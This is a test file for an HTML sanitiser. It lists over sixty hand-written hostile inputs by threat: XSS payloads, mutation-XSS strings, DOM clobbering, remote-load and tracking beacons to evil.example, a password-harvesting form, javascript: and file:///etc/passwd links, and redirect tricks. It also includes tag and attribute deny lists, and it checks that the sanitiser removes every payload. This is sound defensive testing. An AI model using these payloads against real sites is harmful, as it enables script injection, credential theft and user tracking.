// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { ALLOWED_ATTR, ALLOWED_TAGS } from './allowed';
import { sanitise } from './sanitise';

/** Written by hand, one trick each, by the threat it belongs to (safety.md §2). */
const HOSTILE: Record<string, string[]> = {
  'T1 script': [
    '<script>alert(1)</script>',
    '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src=x oNeRrOr\n=\nalert(1)>',
    '<img/src=`x`/onerror=alert(1)>',
    '<body onload=alert(1)>words',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<details open ontoggle=alert(1)>x</details>',
    '<p style="animation:x 1s" onanimationstart=alert(1)>x</p>',
    '<p onpointerrawupdate=alert(1) onfocusin=alert(1) tabindex=0 autofocus>x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code=x></applet>',
    '<template><img src=x onerror=alert(1)></template>',
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
    '<x-widget is=x onclick=alert(1)>x</x-widget>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<portal src="https://evil.example"></portal>',
  ],
  'T3 mutation': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<style><style/><img src=x onerror=alert(1)></style>',
    '<style><!-- </style><img src=x onerror=alert(1)> --></style>',
    '<style>p{content:"<<!--/style><img src=x onerror=alert(1)>"}</style>',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '&lt;img src=x onerror=alert(1)&gt;<b>&amp;lt;script&amp;gt;</b>',
    `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  ],
  'T4 clobbering': [
    '<form id=x name=attributes><input name=parentNode><input name=nodeName></form>',
    '<img name=body><a id=documentElement>x</a><img name=getElementById>',
    '<a id=defaultView></a><a id=defaultView name=x href="https://example.com">x</a>',
  ],
  'T6 top layer': [
    '<dialog open style="position:fixed;inset:0">Sign in</dialog>',
    '<div popover=manual id=p>x</div><button popovertarget=p popovertargetaction=show>x</button>',
    '<p contenteditable=true accesskey=t draggable=true>x</p>',
    '<marquee behavior=alternate onstart=alert(1)>x</marquee>',
  ],
  'T7 loads': [
    '<img src="https://evil.example/p.gif">',
    '<img src="//evil.example/p.gif">',
    '<img srcset="https://evil.example/p.gif 1x" sizes=1px>',
    '<picture><source srcset="https://evil.example/p.gif"><img alt=x></picture>',
    '<img lowsrc="https://evil.example/p.gif" dynsrc="https://evil.example/p.gif" longdesc="https://evil.example">',
    '<video poster="https://evil.example/p.gif" src="https://evil.example/v"></video>',
    '<audio src="https://evil.example/a" autoplay></audio><track src="https://evil.example/t">',
    '<input type=image src="https://evil.example/p.gif">',
    '<table background="https://evil.example/p.gif"><tr><td background="//evil.example/q.gif">x</td></tr></table>',
    '<body background="https://evil.example/p.gif">x</body>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel="dns-prefetch preconnect prefetch" href="https://evil.example">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>@\\69mport url(https://evil.example/x.css);</style>',
    '<style>p{background:url(https://evil.example/p.gif)}</style>',
    '<style>p{background:\\75 rl(https://evil.example/p.gif)}</style>',
    '<style>p{background:u\\rl(https://evil.example/p.gif)}</style>',
    '<style>p{background:image-set("https://evil.example/p.gif" 1x)}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}</style>',
    '<p style="background-image:url(&quot;https://evil.example/p.gif&quot;)">x</p>',
    '<p style="list-style:URL(//evil.example/p.gif)">x</p>',
    '<p style="cursor:u&#x5c;72l(https://evil.example/c.cur),auto">x</p>',
    '<svg><image href="https://evil.example/p.gif"/><feImage href="https://evil.example/p.gif"/></svg>',
    '<a href="https://example.com" ping="https://evil.example/ping" attributionsrc="https://evil.example/a">x</a>',
    '<img src="data:image/svg+xml,<svg><image href=\'https://evil.example/p.gif\'/></svg>">',
    '<img src="cid:part1@evil.example">',
    '<img src="blob:https://evil.example/1">',
  ],
  'T10 links': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \u0001java\tscr\nipt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.com/1">x</a>',
    '<a href="ms-word:ofe|u|https://evil.example/x.docm">x</a>',
    '<a href="view-source:https://evil.example">x</a>',
    '<a href="/marketplace/app/1/">x</a>',
    '<a href="//evil.example">x</a>',
    '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m>',
  ],
  'T12 leading elsewhere': [
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/" target=_top><a href="x">x</a>',
    '<a href="https://example.com" target=_top>x</a>',
    '<a href="https://example.com" target=_parent rel=opener>x</a>',
    '<frameset><frame src="https://evil.example"></frameset>',
  ],
  'T14 forms': [
    '<form action="https://evil.example"><input type=password name=p><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<select><option onclick=alert(1)>x</select><keygen><output>x</output><fieldset><legend>x</legend></fieldset>',
  ],
  'T15 downloads': ['<a href="https://example.com/x.exe" download="invoice.pdf">x</a>'],
};

/** Written out once more, so that a list that grows too far is noticed. */
const NEVER_TAGS =
  'script,svg,math,iframe,object,embed,applet,form,input,button,select,textarea,meta,base,link,video,audio,source,track,dialog,template,portal,frame,map,area,marquee,noscript,picture,slot,title,bdo';
const NEVER_ATTRS =
  /^(?:on|id$|name$|srcset$|popover|form|action$|download$|ping$|http-equiv$|contenteditable$|autofocus$|tabindex$|usemap$|aria-|data-|is$|slot$|poster$|xlink)/u;

const cases = Object.entries(HOSTILE).flatMap(([threat, inputs]) =>
  inputs.map((input) => [threat, input] as const),
);

it('knows more than sixty tricks', () => {
  expect(new Set(cases.map(([, input]) => input)).size).toBeGreaterThan(60);
});

describe.each([false, true])('with remote pictures wanted: %s', (pictures) => {
  it.each(cases)('%s: %s', (_threat, input) => {
    const { html } = sanitise(input, { pictures, quotation: 'Quoted text' });
    // Twice parsed, as the frame does and as a mutation would need.
    const once = parsed(html);
    expect(parsed(once.innerHTML).innerHTML).toBe(once.innerHTML);
    expect(once.querySelector(NEVER_TAGS)).toBeNull();
    for (const element of once.querySelectorAll('*')) {
      expect(ALLOWED_TAGS).toContain(element.tagName.toLowerCase());
      for (const { name, value } of element.attributes) judge(element, name, value, pictures);
      if (element.tagName === 'STYLE') expect(loads(element.textContent, pictures)).toEqual([]);
    }
  });
});

function judge(element: Element, name: string, value: string, pictures: boolean): void {
  expect(ALLOWED_ATTR).toContain(name);
  expect(name).not.toMatch(NEVER_ATTRS);
  if (name === 'href') expect(value).toMatch(/^(?:https?|mailto|tel):/u);
  if (name === 'target') expect(value).toBe('_blank');
  if (element.hasAttribute('target')) expect(element.getAttribute('rel')).toBe('noopener noreferrer');
  if (name === 'src' || name === 'background') {
    expect(value).toMatch(pictures ? /^https:|^data:image\/(?!svg)/u : /^data:image\/(?!svg)/u);
  }
  if (name === 'style') expect(loads(value, pictures)).toEqual([]);
}

/** What of a style could leave the machine; a second opinion, by other means than the code under test. */
function loads(css: string, pictures: boolean): string[] {
  const plain = css.replace(/\\([0-9a-f]{1,6})\s?/giu, (_, hex: string) =>
    String.fromCodePoint(Number.parseInt(hex, 16)),
  );
  const always = plain.match(/(?<!x-)@import|@font-face[^}]*\/\//giu) ?? [];
  const unwanted = plain.replaceAll('\\', '').match(/(?<![\w-])(?:url|src|image|image-set)\(/giu) ?? [];
  return [...always, ...(pictures ? [] : unwanted)];
}

function parsed(html: string): HTMLElement {
  return new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html').body;
}
